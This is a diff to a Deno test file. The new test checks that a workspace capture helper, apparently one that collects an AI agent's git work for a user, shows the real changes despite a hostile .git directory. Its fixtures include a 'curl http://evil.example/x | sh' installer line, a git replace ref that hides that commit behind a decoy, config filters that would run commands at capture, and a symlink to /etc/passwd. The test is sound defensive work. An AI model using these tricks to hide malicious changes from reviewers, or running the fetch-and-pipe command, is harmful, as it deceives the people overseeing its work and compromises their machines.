@@ -5,30 +5,12 @@
  * program and whose hooks are planted (neither runs during the capture).
  */
 import assert from "node:assert/strict";
+import { sh } from "../_harness/git.ts";
 import { bundleImage } from "../_harness/images.ts";
 import { docker } from "../_harness/docker.ts";
 import { workspaceHelperArgv } from "../../lib/workspace/workspace_helper_argv.ts";
 
 const ID = { uid: Deno.uid() ?? 0, gid: Deno.gid() ?? 0 };
-
-async function sh(cwd: string, script: string): Promise<void> {
-  const out = await new Deno.Command("bash", {
-    args: ["-c", script],
-    cwd,
-    env: {
-      GIT_CONFIG_NOSYSTEM: "1",
-      HOME: cwd,
-      GIT_AUTHOR_NAME: "u",
-      GIT_AUTHOR_EMAIL: "u@x",
-      GIT_COMMITTER_NAME: "u",
-      GIT_COMMITTER_EMAIL: "u@x",
-      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
-    },
-    stdout: "piped",
-    stderr: "piped",
-  }).output();
-  assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
-}
 
 async function helper(
   image: string,
@@ -151,6 +133,65 @@ Deno.test("workspace helper: submodules, a merge in progress, an unreadable dir,
     );
   } finally {
     await sh(dir, "chmod -R u+rwx . 2>/dev/null || true");
+    await Deno.remove(dir, { recursive: true });
+  }
+});
+
+Deno.test("workspace helper: what the agent's .git says cannot make the diff differ from the bundle", async () => {
+  // The attacks of the second review: a filter in config.worktree (extensions.worktreeConfig)
+  // and through include.path, a replace ref that shows a harmless commit in place of the real
+  // one, a forged commit-graph, and a symlink planted in the object store.
+  const image = await bundleImage();
+  const dir = await Deno.makeTempDir({ prefix: "bbtest-wshostile-" });
+  try {
+    await sh(
+      dir,
+      `set -e
+      git init -q -b main host && (cd host && echo hi > README && git add README && git commit -qm base)
+      git clone -q host guest && cd guest && git rev-parse HEAD > ../base
+      # The real change: an installer; the decoy: a README typo fix, same message.
+      echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
+      real=$(git rev-parse HEAD)
+      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
+      decoy=$(git rev-parse HEAD)
+      git reset -q --hard "$real" && git replace "$real" "$decoy"
+      # Programs the agent's config would run at capture.
+      git config extensions.worktreeConfig true
+      printf '[filter "x"]\\n\\tclean = "sh -c \\\\"touch /out/PWNED-worktree; cat\\\\""\\n' > .git/config.worktree
+      printf '[filter "y"]\\n\\tclean = "sh -c \\\\"touch /out/PWNED-include; cat\\\\""\\n' > .git/inc
+      git config include.path inc
+      printf '* filter=x\\nREADME filter=y\\n' > .gitattributes
+      echo 'uncommitted' > notes.txt
+      git commit-graph write --reachable 2>/dev/null || true
+      ln -s /etc/passwd .git/objects/ab 2>/dev/null || true
+      tar -c -f ../guest.tar .`,
+    );
+    const base = (await Deno.readTextFile(`${dir}/base`)).trim();
+    await Deno.mkdir(`${dir}/out`);
+    const cap = await helper(image, [
+      { source: `${dir}/guest.tar`, target: "/in/guest.tar", readonly: true },
+      { source: `${dir}/out`, target: "/out", readonly: false },
+    ], ["capture", "s", base, "git"]);
+    assert.equal(cap.code, 0, cap.stderr);
+    const summary = JSON.parse(cap.stdout);
+    const out = [];
+    for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
+    assert.deepEqual(out.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
+    const patch = await Deno.readTextFile(`${dir}/out/diff.patch`);
+    assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
+    assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
+    assert.match(patch, /^\+uncommitted$/m);
+    // What the user fetches is what the diff showed.
+    await sh(
+      dir,
+      `set -e
+      cd host && git fetch -q ../out/changes.bundle refs/heads/bot-bottle/s:refs/heads/got
+      git diff ${base} got > ../fetched.patch`,
+    );
+    const fetched = await Deno.readTextFile(`${dir}/fetched.patch`);
+    assert.match(fetched, /^\+curl http:\/\/evil\.example\/x \| sh$/m);
+    assert.equal(summary.commits, 2, "tidy and bot-bottle's commit of the uncommitted work");
+  } finally {
     await Deno.remove(dir, { recursive: true });
   }
 });
